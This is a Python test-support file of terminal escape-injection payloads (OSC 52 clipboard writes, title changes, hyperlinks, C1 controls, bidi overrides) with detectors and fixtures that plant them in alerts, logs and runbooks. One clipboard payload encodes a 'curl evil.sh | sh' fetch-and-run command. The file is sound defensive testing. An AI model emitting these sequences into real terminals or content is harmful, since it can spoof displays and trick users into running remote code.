"""Hostile strings for the terminal-safety tests, and bundles/runbooks carrying them.

Each string tries to make the terminal do something (write the clipboard, set the
title, clear the screen, plant a hyperlink, start a DCS/APC/PM/SOS string, reorder
text with bidi overrides) or to break what is shown around it. The tests put them in
every field that comes from outside and check the exact bytes each output surface
writes: no raw ESC, no C1 control, no bidi override, no raw OSC/CSI payload.
"""

from __future__ import annotations

import json
import re
import shutil
from pathlib import Path

from tests.conftest import DEMO

ESC = "\x1b"
CORPUS: list[str] = [
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",  # OSC 52 clipboard write, BEL
    "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x1b\\",  # OSC 52, ST
    "\x1b]0;PWNED-TITLE\x07",  # OSC 0 window title
    "\x1b]2;PWNED-TITLE\x1b\\",  # OSC 2 window title, ST
    "\x1b]1;PWNED-ICON\x07",  # OSC 1 icon name
    "\x1b]8;;http://evil.example/x\x1b\\click me\x1b]8;;\x1b\\",  # OSC 8 hyperlink
    "\x1b]8;id=1;http://evil.example/y\x07link\x1b]8;;\x07",  # OSC 8, BEL
    "\x1b[2J\x1b[H all clear, nothing to see",  # clear screen + home + fake text
    "\x1b[3J",  # clear scrollback
    "\x1b[1;1H\x1b[2Kfake prompt $ ",  # cursor to 1,1 and erase line
    "\x1b[31;1;4mred\x1b[0m",  # SGR with params
    "\x1b[38;2;255;0;0mtruecolor\x1b[m",  # SGR truecolor
    "\x1b[?1049h",  # alternate screen
    "\x1b[?25l",  # hide cursor
    "\x1b[6n",  # cursor position report (answer-back)
    "\x1b[21t",  # report window title (answer-back)
    "\x1b[8;1;1t",  # resize window
    "\x1bc",  # RIS: full reset
    "\x1b7\x1b8",  # save/restore cursor
    "\x1b(0lqqk\x1b(B",  # DEC line drawing charset switch
    "\x1bP1$qm\x1b\\",  # DCS request status string
    "\x1bP+q544e\x1b\\",  # DCS termcap query
    "\x1b_Gf=100;AAAA\x1b\\",  # APC (kitty graphics)
    "\x1b^privacy message\x1b\\",  # PM
    "\x1bXstart of string\x1b\\",  # SOS
    "\x9b2J",  # 8-bit CSI clear
    "\x9b31mred8\x9b0m",  # 8-bit CSI SGR
    "\x9d0;PWNED8\x9c",  # 8-bit OSC title, 8-bit ST
    "\x9d52;c;ZXZpbA==\x07",  # 8-bit OSC clipboard
    "\x90qdcs8\x9c",  # 8-bit DCS
    "\x9fapc8\x9c",  # 8-bit APC
    "\x9epm8\x9c",  # 8-bit PM
    "\x98sos8\x9c",  # 8-bit SOS
    "\x85next line C1",  # NEL
    "bell\x07\x07\x07",  # BEL
    "nul\x00byte",  # NUL
    "del\x7fchar",  # DEL
    "back\x08\x08\x08space",  # BS overwrites
    "carriage\rreturn overwrite",  # CR overwrites the line
    "vt\x0bff\x0c",  # VT FF
    "so\x0esi\x0f",  # shift out / shift in
    "\u202eevil.exe\u202c txt",  # RLO bidi override (Trojan Source)
    "\u2066isolate\u2069 \u2067rtl\u2069 \u200fmark",  # bidi isolates, RLM
    "line\u2028sep\u2029para",  # Unicode line/paragraph separators
    "A" * 5000 + "\x1b]0;LONG\x07",  # very long line, escape at its end
    "tail escape \x1b",  # lone ESC at the end
    "\x1b",  # only ESC
    "\x1b\x1b[[2J",  # doubled ESC
    "[bold red]markup[/] [link=http://evil.example]x[/link]",  # rich markup injection
]

# Markers that show a payload reached a terminal raw (searched after an ESC/C1).
RAW_SEQUENCES = [
    re.compile(r"\x1b\]52;"),
    re.compile(r"\x1b\](0|1|2);PWNED"),
    re.compile(r"\x1b\]8;;http://evil"),
    re.compile(r"\x1b\]8;id=1;http://evil"),
    re.compile(r"\x1b\[2J"),
    re.compile(r"\x1bP"),
    re.compile(r"\x1b_G"),
    re.compile(r"\x1b\^privacy"),
    re.compile(r"\x1bXstart"),
    re.compile(r"\x1b\]0;LONG"),
    re.compile("[\x90\x98\x9b\x9d\x9e\x9f]"),
    re.compile("\u202e"),
]

_BAD_CHARS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\u2028\u2029]"
)


def joined() -> str:
    """Every payload in one string (the lone-ESC one last, so the field ends in ESC)."""
    return " | ".join([*CORPUS[:-4], *CORPUS[-3:], CORPUS[-4]])


def short_joined() -> str:
    """The payloads without the 5000-char one (for fields shown on one line)."""
    return " | ".join(p for p in CORPUS if len(p) < 1000)


def assert_terminal_safe(data: bytes | str, where: str) -> None:
    """No raw control reached the output: no ESC at all (colour is off), no C1, no
    bidi override, only \\n and \\t among C0, and no payload sequence."""
    raw = data.encode("utf-8", "surrogateescape") if isinstance(data, str) else data
    assert b"\x1b" not in raw, f"{where}: raw ESC: {_around(raw)!r}"
    text = raw.decode("utf-8")  # also proves it is valid UTF-8 (no lone C1 bytes)
    m = _BAD_CHARS.search(text)
    if m is not None:
        seen = text[max(0, m.start() - 40) : m.end() + 40]
        raise AssertionError(f"{where}: raw control {m.group()!r}: {seen!r}")
    for pat in RAW_SEQUENCES:
        assert not pat.search(text), f"{where}: {pat.pattern!r} reached the terminal"


def assert_no_raw_payload(data: bytes | str, where: str) -> None:
    """For real terminals (colour on: ESC is rich's/Textual's own styling): no payload
    sequence and no C1/bidi control appears raw."""
    text = data.decode("utf-8", "replace") if isinstance(data, bytes) else data
    for pat in RAW_SEQUENCES:
        m = pat.search(text)
        if m is not None:
            seen = text[max(0, m.start() - 40) : m.end() + 40]
            raise AssertionError(f"{where}: {pat.pattern!r} reached the terminal: {seen!r}")


def _around(raw: bytes) -> bytes:
    i = raw.find(b"\x1b")
    return raw[max(0, i - 60) : i + 60]


# ------------------------------------------------------------------ fixtures


def hostile_bundle(dst: Path, payload: str | None = None, *, logs: bool = True) -> Path:
    """The demo bundle with `payload` (default: every payload) in every outside field:
    alert summaries, descriptions and labels, an extra alert named by it, every change's
    summary/author/version/url, and error log lines of the failing service."""
    p = joined() if payload is None else payload
    shutil.copytree(DEMO, dst)
    alerts = json.loads((dst / "alerts.json").read_text())
    for a in alerts:
        a["annotations"]["summary"] = f"{a['annotations'].get('summary', '')} {p}"
        a["annotations"]["description"] = p
        a["labels"]["team"] = p
    extra = json.loads(json.dumps(alerts[-1]))
    extra["fingerprint"] = "badc0ffee0ddf00d"
    extra["labels"]["alertname"] = f"Hostile{p}"
    extra["labels"]["service"] = f"svc{p}"
    alerts.append(extra)
    (dst / "alerts.json").write_text(json.dumps(alerts, indent=1))
    changes = json.loads((dst / "changes.json").read_text())
    for c in changes:
        c["summary"] = f"{c['summary']} {p}"
        c["author"] = p
        if c.get("version"):
            c["version"] = f"{c['version']}{p}"
        c["url"] = f"https://example.invalid/{p}"
    (dst / "changes.json").write_text(json.dumps(changes, indent=1))
    if not logs:
        return dst
    log_file = dst / "logs" / "payments.jsonl"
    lines = log_file.read_text().splitlines()
    out = []
    for i, line in enumerate(lines):
        rec = json.loads(line)
        if rec.get("level") in ("error", "fatal") or i % 50 == 0:
            rec["msg"] = f"{rec['msg']} {p}"
            rec["pod"] = p
        out.append(json.dumps(rec))
    log_file.write_text("\n".join(out) + "\n")
    return dst


def hostile_runbook_dir(dst: Path, payload: str | None = None) -> Path:
    """A runbook folder with one valid runbook whose texts all carry `payload`."""
    import yaml

    p = short_joined() if payload is None else payload
    dst.mkdir(parents=True, exist_ok=True)
    rb = {
        "id": "hostile-inspect",
        "title": f"Inspect {p}",
        "description": f"Looks at the deployment. {p}\nsecond line {p}",
        "applies_to": {"kinds": ["deploy"]},
        "params": {
            "service": {"type": "name", "from": "service", "description": f"svc {p}"},
        },
        "steps": [
            {
                "id": "inspect",
                "title": f"Show it {p}",
                "capability": "kubectl.get",
                "inputs": {"kind": "deployment", "name": "{{ service }}"},
            }
        ],
    }
    (dst / "hostile.yaml").write_text(yaml.safe_dump(rb, allow_unicode=True), encoding="utf-8")
    return dst


FAKE_KUBECTL = """#!/usr/bin/env python3
import json, os, sys
payload = json.loads(open(os.environ["HOSTILE_PAYLOAD_FILE"], encoding="utf-8").read())
sys.stdout.write("NAME READY\\n" + payload + "\\n" + payload + "\\n")
sys.stdout.flush()
sys.stdout.buffer.write(b"raw bytes \\x9b2J \\x9d0;PWNED-RAW\\x07 \\x1b]52;c;cmF3\\x07 \\xff\\n")
sys.stderr.write("error: " + payload + "\\n")
sys.exit(int(os.environ.get("HOSTILE_KUBECTL_RC", "0")))
"""


def fake_kubectl(bin_dir: Path, payload: str) -> Path:
    """A kubectl that prints `payload` on stdout and stderr (exit HOSTILE_KUBECTL_RC)."""
    bin_dir.mkdir(parents=True, exist_ok=True)
    exe = bin_dir / "kubectl"
    exe.write_text(FAKE_KUBECTL, encoding="utf-8")
    exe.chmod(0o755)
    pf = bin_dir / "payload.json"
    pf.write_text(json.dumps(payload), encoding="utf-8")
    return pf


def per_alert_bundle(dst: Path) -> Path:
    """The demo bundle plus one alert per payload (its name, service, summary and labels
    carry that payload alone): every payload, each on its own row, in one run."""
    shutil.copytree(DEMO, dst)
    alerts = json.loads((dst / "alerts.json").read_text())
    base = alerts[-1]
    for i, p in enumerate(CORPUS):
        a = json.loads(json.dumps(base))
        a["fingerprint"] = f"{0xFEED0000 + i:016x}"
        a["labels"].update(alertname=f"Hostile{i}{p}", service=f"svc{i}{p}", team=p)
        a["annotations"].update(summary=p, description=p)
        alerts.append(a)
    (dst / "alerts.json").write_text(json.dumps(alerts, indent=1))
    return dst
